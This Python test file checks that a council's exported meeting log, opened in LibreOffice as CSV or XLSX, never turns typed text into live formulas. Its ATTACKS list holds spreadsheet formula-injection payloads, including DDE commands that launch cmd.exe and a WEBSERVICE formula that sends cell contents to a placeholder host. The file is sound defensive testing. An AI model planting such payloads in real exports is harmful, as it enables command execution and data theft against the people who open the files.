"""The exported log as an officer sees it in LibreOffice: nothing typed comes alive, nothing typed is lost."""

import asyncio
import re

import pytest

from reports import attempts
from reports.asked import Asked
from reports.cells import unguarded
from rules.council import Council
from storage import by_hand
from storage.database import opened
from storage.migrate import migrate
from tests.browser import office
from tests.conftest import MIGRATIONS
from tests.storage.world import NOON, open_meeting, worker

pytestmark = pytest.mark.browser

COUNCIL = Council(name="Anytown Council")
ATTACKS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    '=HYPERLINK("http://x.example","tap")',
    '=WEBSERVICE("http://x.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    '=DDE("soffice";"x";"y")',
    "=MSEXCEL|'\\..\\cmd.exe'!''",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    'a";=1+1;"',
    'a",=1+1,"',
    '"\r\n=1+1',
    "'=1+1",
    " =1+1",
    "http://x.example/",
    "мир =1+1",
)
PLAIN = ("-5", "+44 20 8921 2345", "£10, or less", "مرحبا", "two\nlines", "one\n\nthree\n- four")
# Text in a workbook. From a CSV the officer's program makes of them what it likes.
LIKE_NUMBERS = ("007", "1/2", "3-4", "1e5", "12:30", "TRUE")
SEPARATORS = pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """The log of a coordinator who noted every attack, in both forms, in a folder."""
    office.ready()
    folder = tmp_path_factory.mktemp("exported")
    migrate(folder / "main.db", MIGRATIONS)
    asyncio.run(_write(folder))
    return folder


async def _write(folder):
    async with opened(folder / "main.db") as database:
        meeting = await open_meeting(database, title=ATTACKS[0], reward="+£10")
        async with database.transaction() as tx:
            for typed in (*ATTACKS, *PLAIN, *LIKE_NUMBERS):
                person = await worker(tx, name=typed)
                await by_hand.log_by_hand(tx, person, None, "call", "spoke", typed, None, NOON, about=meeting.id)
                await by_hand.log_by_hand(tx, None, typed, "visit", "left_message", "", None, NOON)
        for form in ("csv", "xlsx"):
            out = folder / f"log.{form}"
            wanted = Asked(
                out=out, form=form, from_at=0, until_at=NOON + 1, identified=True, purpose="to learn", who="host:ada"
            )
            await attempts.write(database, wanted, COUNCIL, NOON)


def typed_in(rows, column):
    """What was typed, in the order in which it was, without the guard that a CSV needs."""
    return [unguarded(row[column]) for row in rows if row[column]]


def lines(texts):
    """A carriage return in a cell is a line's end like any other."""
    return [re.sub(r"\r\n|\r", "\n", text) for text in texts]


def test_in_a_workbook_what_was_typed_is_there_letter_by_letter(exported, tmp_path):
    sheets = office.sheets(exported / "log.xlsx", tmp_path / "seen")
    rows = office.records(sheets["attempts"])
    for column in ("name", "note", "place"):
        seen = [row[column] for row in rows if row[column]]
        assert lines(seen) == lines([*ATTACKS, *PLAIN, *LIKE_NUMBERS]), column
    assert {row["meeting"] for row in rows if row["meeting"]} == {"=1+1"}
    assert [name for name in sheets if name != "attempts"] == ["about", "code book"]


def test_in_a_csv_what_was_typed_is_there_behind_its_guard(exported, tmp_path):
    (rows,) = office.sheets(exported / "log.csv", tmp_path / "seen").values()
    for column in ("name", "note", "place"):
        seen = typed_in(office.records(rows), column)[: -len(LIKE_NUMBERS)]
        assert lines(seen) == lines([*ATTACKS, *PLAIN]), column


@SEPARATORS
def test_nothing_in_a_csv_comes_alive_however_it_is_opened(exported, tmp_path, separator):
    (rows,) = office.sheets(exported / "log.csv", tmp_path / "seen", separator=separator).values()
    assert len(rows) > 2 * len(ATTACKS)


def test_the_code_book_opens_too(exported, tmp_path):
    (rows,) = office.sheets(exported / "log-code-book.csv", tmp_path / "seen").values()
    assert rows[0] == ["word", "meaning"]
    assert "final_state" in {row[0] for row in rows}


def test_a_formula_would_be_seen(tmp_path):
    office.ready()
    bad = tmp_path / "bad.csv"
    bad.write_text('"a"\n=1+1\n', encoding="utf-8")
    with pytest.raises(AssertionError):
        office.sheets(bad, tmp_path / "seen")
